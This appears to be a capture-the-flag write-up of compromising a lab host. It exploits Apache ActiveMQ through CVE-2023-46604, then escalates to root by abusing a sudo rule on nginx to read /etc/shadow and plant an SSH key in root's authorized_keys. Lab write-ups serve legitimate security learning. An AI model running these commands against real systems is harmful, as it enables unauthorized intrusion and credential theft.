Information Gathering

Port Scan

Starting Nmap 7.94SVN ( https://nmap.org ) at 2024-05-16 19:30 WIB
Nmap scan report for
Host is up (0.028s latency).
Not shown: 998 closed tcp ports (conn-refused)
22/tcp open  ssh
80/tcp open  http

Nmap done: 1 IP address (1 host up) scanned in 0.57 seconds

Initial Access

web service running on 80 and we need the authorization credential for jetty. we can search the default credentials in google and we can use user:user for authorization

after authorized we will know that the website using Apache ActiveMQ.

we can exploit the Apache ActiveMQ using CVE-2023-46604


git clone https://github.com/evkl1d/CVE-2023-46604
cd CVE-2023-46604python3 -m http.server -b 80 # run this in second terminal
python3 exploit.py -i -u

we need to modify payload inside poc.xml

Privilege Escalation

we can perform privilege escalation withexploiting /usr/sbin/nginx

python3 -c 'import pty;pty.spawn("/bin/bash")'
sudo -l
User activemq may run the following commands on broker:
    (ALL : ALL) NOPASSWD: /usr/sbin/nginx

we need to create configuration files to create new web server with 1337 port, we can run this command

echo 'user root; events { worker_connections 1024; } http { server { listen 1337; root /; autoindex on; } }' > yha.conf
cat yha.conf # verify
sudo /usr/sbin/nginx -c /tmp/yha.conf &
curl localhost:1337/etc/shadow # reading /etc/shadow

it’s works! next, let’s try get the flag

we can alsoescalate to ssh via creating authorized_keys inside root directory, but we need create new nginx config to perform write

echo 'user root; events { worker_connections 1024; } http { server { listen 1338; root /; autoindex on; dav_methods PUT; } }' > /tmp/waduh.conf
sudo nginx -c /tmp/waduh.conf

next, we can write our public key to /root/.ssh/authorized_keys

ssh-keygen -t rsa
curl -X PUT "localhost:1338/root/.ssh/authorized_keys" -d "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAA...."
curl -s localhost:1337/root/.ssh/authorized_keys #verifyafter authorized_keys has been created, we can tryconnect to ssh

chmod 600 id_rsa
ssh [email protected] -i id_rsa